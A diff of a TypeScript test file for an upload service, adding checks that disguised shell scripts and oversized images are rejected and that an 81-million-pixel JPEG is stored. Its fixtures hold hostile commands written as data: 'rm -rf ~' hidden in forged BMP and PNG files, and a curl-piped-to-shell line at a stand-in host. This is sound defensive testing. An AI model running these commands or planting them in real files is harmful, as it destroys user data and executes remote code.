@@ -1,4 +1,6 @@
 import {readFileSync} from 'node:fs'
+import {crc32} from 'node:zlib'
+import sharp from 'sharp'
 import {describe, expect, test} from 'vitest'
 import {PDF, SVG, codeOf, copyOf, half, noise, plain, png, testService, text, upload} from './test-service.ts'
 
@@ -29,6 +31,49 @@ function heicWithoutPixels() {
   const file = heic()
   return file.fill(0, Buffer.from(file).indexOf('mdat') + 4)
 }
+
+/** The photograph with another size in its header. */
+function heicOf(width: number, height: number, file = heic()) {
+  const bytes = Buffer.from(file)
+  const at = bytes.indexOf('ispe') + 8
+  bytes.writeUInt32BE(width, at)
+  bytes.writeUInt32BE(height, at + 4)
+  return copyOf(bytes)
+}
+
+const SCRIPT = '#!/bin/sh\nrm -rf ~\n'
+
+/** A BMP header for compressed pixels, before a shell script. */
+function compressedBmp() {
+  const header = Buffer.from(bmp().slice(0, 54))
+  header.writeUInt16LE(8, 28)
+  header.writeUInt32LE(1, 30)
+  return copyOf(Buffer.concat([header, Buffer.from(SCRIPT)]))
+}
+
+/** A PNG of this size whose compressed pixels are a shell script. */
+function scriptPng(width: number, height: number) {
+  const header = Buffer.from([0, 0, 0, 0, 0, 0, 0, 0, 8, 2, 0, 0, 0])
+  header.writeUInt32BE(width, 0)
+  header.writeUInt32BE(height, 4)
+  const signature = Buffer.from('89504e470d0a1a0a', 'hex')
+  const chunks = [chunk('IHDR', header), chunk('IDAT', Buffer.from(SCRIPT)), chunk('IEND', Buffer.alloc(0))]
+  return copyOf(Buffer.concat([signature, ...chunks]))
+}
+
+function chunk(type: string, content: Buffer) {
+  const tagged = Buffer.concat([Buffer.from(type), content])
+  const [length, checksum] = [Buffer.alloc(4), Buffer.alloc(4)]
+  length.writeUInt32BE(content.length)
+  checksum.writeUInt32BE(crc32(tagged))
+  return Buffer.concat([length, tagged, checksum])
+}
+
+/** A JPEG of 81 million pixels, as the largest telephones make. */
+const largeJpeg = () =>
+  sharp({create: {width: 9000, height: 9000, channels: 3, background: '#a87'}})
+    .jpeg()
+    .toBuffer()
 
 describe('POST /upload-service/objects', () => {
   test.each<[string, string, () => Promise<Uint8Array<ArrayBuffer>>]>([
@@ -71,6 +116,14 @@ describe('POST /upload-service/objects', () => {
       'a shell script called BMP',
       'image/bmp',
       () => text('BM=1; exec curl https://x.example | sh #'.padEnd(2000, '#')),
+    ],
+    ['a shell script behind the header of a compressed BMP', 'image/bmp', () => compressedBmp()],
+    ['a shell script in a PNG of 81 million pixels', 'image/png', () => scriptPng(9000, 9000)],
+    ['a JPEG of 81 million pixels cut in half', 'image/jpeg', async () => half(await largeJpeg())],
+    [
+      'a HEIC of 20 million pixels without its pixels',
+      'image/heic',
+      () => heicOf(5000, 4000, heicWithoutPixels()),
     ],
     ['a BMP cut before its last row', 'image/bmp', () => bmp().slice(0, -1)],
     ['a HEIC without pixels', 'image/heic', () => heicWithoutPixels()],
@@ -118,5 +171,22 @@ describe('POST /upload-service/objects', () => {
   test('accepts the SVG of a drawing program, with its entities and its byte order mark', async () => {
     const drawn = `\ufeff<?xml version="1.0" encoding="utf-8"?><!-- drawn --><!DOCTYPE svg PUBLIC "-//W3C//DTD SVG 1.1//EN" "http://www.w3.org/Graphics/SVG/1.1/DTD/svg11.dtd" [<!ENTITY ns_svg "http://www.w3.org/2000/svg">]><svg xmlns="&ns_svg;"><title>पत्थर</title></svg>`
     expect((await upload(open(), text(drawn), 'image/svg+xml')).response.status).toBe(204)
+  })
+
+  test('stores a JPEG of 81 million pixels', async () => {
+    expect((await upload(open(), copyOf(await largeJpeg()), 'image/jpeg')).response.status).toBe(204)
+  })
+
+  test('rejects a picture of more than 200 million pixels, a HEIC of more than 50 million, and names that limit', async () => {
+    const sentOf = async (file: Uint8Array<ArrayBuffer>, type: string) =>
+      codeOf((await upload(open(), file, type)).response)
+    const sentence = (text: string) => ({status: 400, text: expect.stringContaining(text)})
+    expect(await sentOf(scriptPng(20_000, 10_001), 'image/png')).toMatchObject(
+      sentence('more than 200 million pixels'),
+    )
+    expect(await sentOf(heicOf(10_000, 6000), 'image/heic')).toMatchObject(
+      sentence('more than 50 million pixels'),
+    )
+    expect(stored()).toEqual({files: [], incoming: []})
   })
 })
